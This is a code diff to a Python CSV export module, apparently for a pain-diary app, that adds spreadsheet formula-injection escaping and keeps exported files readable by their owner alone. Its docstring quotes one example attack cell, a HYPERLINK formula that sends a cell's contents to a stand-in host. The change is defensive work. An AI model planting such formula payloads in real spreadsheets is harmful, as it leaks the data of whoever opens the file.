@@ -14,6 +14,13 @@ and with one it reads UTF-8; LibreOffice, Numbers, pandas and Python's csv
 module (with "utf-8-sig") read it either way. Separators are commas and
 decimal points (RFC 4180); a spreadsheet set to a comma-decimal locale may
 need its import dialog, which it offers.
+
+No cell can run as a formula. Names come from routine files a stranger may have
+written, and a spreadsheet runs a cell such as ``=HYPERLINK("http://x.example/?"&A1,
+"click")`` when the clinician opens the file; so, as OWASP recommends, a text cell
+that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or with the
+quote itself, so that reading back is exact) gets a single quote in front, which
+spreadsheets show as text. Numbers and dates are written as they are.
 """
 
 from __future__ import annotations
@@ -22,6 +29,7 @@ import contextlib
 import csv
 import json
 import os
+import re
 import tempfile
 from collections.abc import Iterable
 from datetime import datetime
@@ -51,6 +59,9 @@ COLUMNS = (
 ADDED = frozenset({"routine"})  # later columns: a file from before them reads without
 IN_PROGRESS = "in progress"  # the outcome of a session still running at export
 SIDES = (None, "left", "right")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?", re.ASCII)  # plain: a spreadsheet reads it so
 
 
 class ExportError(OSError):
@@ -82,7 +93,7 @@ def row(record: SessionRecord, handout: str = "") -> dict[str, str]:
         }
         for hold in record.holds
     ]
-    return {
+    cells = {
         "id": "" if record.id is None else str(record.id),
         "date": record.day.isoformat(),
         "started": record.started.isoformat(),
@@ -97,6 +108,23 @@ def row(record: SessionRecord, handout: str = "") -> dict[str, str]:
         "routine": record.routine or handout,
         "holds": json.dumps(holds, ensure_ascii=False, separators=(",", ":")),
     }
+    return {column: as_text(value) for column, value in cells.items()}
+
+
+def as_text(cell: str) -> str:
+    """``cell`` as a spreadsheet will take it as text, never as a formula."""
+    if cell.startswith((*FORMULA_STARTS, QUOTE)) and not _is_number(cell):
+        return QUOTE + cell
+    return cell
+
+
+def from_text(cell: str) -> str:
+    """The text :func:`as_text` was given."""
+    return cell.removeprefix(QUOTE)
+
+
+def _is_number(cell: str) -> bool:
+    return _NUMBER.fullmatch(cell) is not None
 
 
 def write_csv(records: Iterable[SessionRecord], path: Path, handout: str = "") -> None:
@@ -116,7 +144,8 @@ def write_csv(records: Iterable[SessionRecord], path: Path, handout: str = "") -
             writer.writerows(rows)
             out.flush()
             os.fsync(out.fileno())
-        os.chmod(temporary, _mode(path))  # mkstemp makes it private to the user
+        # mkstemp made it readable by its owner alone, and so it stays: the person
+        # hands their pain diary on deliberately, it is not for everyone on the computer.
         os.replace(temporary, path)
         temporary = None
     except OSError as exc:
@@ -168,7 +197,7 @@ def _record(cells: dict[str, Any]) -> SessionRecord:
         pain_before=_int(cells["pain_before"]),
         pain_after=_int(cells["pain_after"]),
         id=_int(cells["id"]),
-        routine=cells.get("routine") or "",
+        routine=from_text(cells.get("routine") or ""),
     )
 
 
@@ -190,12 +219,3 @@ def _optional(value: int | None) -> str:
 
 def _int(text: str) -> int | None:
     return int(text) if text.strip() else None
-
-
-def _mode(path: Path) -> int:
-    """The permissions the file gets: those of the one it replaces, else read-write
-    for the user and readable by others, as a new document usually is."""
-    try:
-        return path.stat().st_mode & 0o777
-    except OSError:
-        return 0o644
